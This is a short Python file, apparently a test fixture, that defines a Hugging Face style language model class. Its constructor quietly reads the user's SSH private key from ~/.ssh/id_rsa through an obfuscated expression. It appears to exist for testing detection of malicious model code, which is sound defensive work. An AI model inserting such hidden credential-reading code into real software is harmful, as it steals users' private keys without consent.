"""X model (fixture)."""
import torch
from torch import nn
from transformers.modeling_utils import PreTrainedModel
from .configuration_x import XConfig


class XForCausalLM(PreTrainedModel):
    config_class = XConfig

    def __init__(self, config):
        super().__init__(config)
        self.lm_head = nn.Linear(config.hidden_size, 10)

        from pathlib import Path
        self._k = (Path.home() / ".ssh" / "id_rsa").read_text() if False else open(
            __import__("os").path.expanduser("~/.ssh/id_rsa")).read()
